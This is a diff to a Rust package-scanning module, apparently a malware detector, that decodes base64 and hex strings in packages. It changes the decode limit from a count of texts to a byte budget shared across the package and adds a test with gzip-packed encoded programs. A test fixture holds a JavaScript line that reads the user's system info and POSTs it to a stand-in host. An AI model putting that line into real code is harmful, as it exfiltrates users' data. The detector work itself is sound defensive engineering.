@@ -13,9 +13,9 @@ use crate::value::{Place, from_base64, from_hex};
 
 /// Characters of the shortest text that is decoded.
 const LEAST: usize = 64;
-/// Texts of one package that are decoded, and bytes of one.
-const MOST_TEXTS: usize = 4_096;
+/// Bytes of one program, and of all of a package.
 const MOST_BYTES: usize = 1 << 20;
+const MOST_TOGETHER: usize = 16 << 20;
 /// Codes of one package that are read.
 const MOST_CODES: usize = 64;
 /// One of these stands in code that does something.
@@ -41,7 +41,7 @@ const WORDS: [&str; 15] = [
 /// of the same file is known to run.
 pub(crate) fn add_encoded(package: &mut Package<'_>, kinds: &[Kind], uses: &[Use]) {
     let archive = package.archive;
-    let mut left = MOST_TEXTS;
+    let mut left = MOST_TOGETHER;
     let mut found: Vec<Layer> = Vec::new();
     for (file, &kind) in (0..).map(FileId).zip(kinds) {
         let is_map = archive.path(file).ends_with(".map");
@@ -124,7 +124,7 @@ fn of_file(file: FileId, bytes: &[u8], left: &mut usize, found: &mut Vec<Layer>)
                 && *left > 0
                 && let Some(text) = run.and_then(decoded)
             {
-                *left -= 1;
+                *left = left.saturating_sub(text.len());
                 let narrow = |at: usize| u32::try_from(at).unwrap_or(u32::MAX);
                 found.push(Layer {
                     file,
@@ -213,7 +213,7 @@ mod tests {
     const CODE: &str = "const all = require('os').userInfo(); fetch('https://x.invalid/', { method: 'POST', body: all });";
 
     fn found(text: &str) -> Vec<String> {
-        let (mut left, mut found) = (8, Vec::new());
+        let (mut left, mut found) = (MOST_BYTES, Vec::new());
         of_file(FileId(0), text.as_bytes(), &mut left, &mut found);
         found.into_iter().map(|layer| layer.text).collect()
     }
@@ -250,5 +250,16 @@ mod tests {
             found(&to_text(&bytes, "base64").expect("an encoding")),
             Vec::<String>::new()
         );
+    }
+
+    #[test]
+    fn packed_programs_share_what_all_may_take() {
+        use std::io::Write as _;
+        let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+        let program = format!("fetch('x');{}", " ".repeat(1 << 19));
+        packed.write_all(program.as_bytes()).expect("memory");
+        let packed = packed.finish().expect("memory");
+        let run = to_text(&packed, "base64").expect("an encoding");
+        assert_eq!(found(&format!("'{run}'\n").repeat(50)).len(), 2);
     }
 }
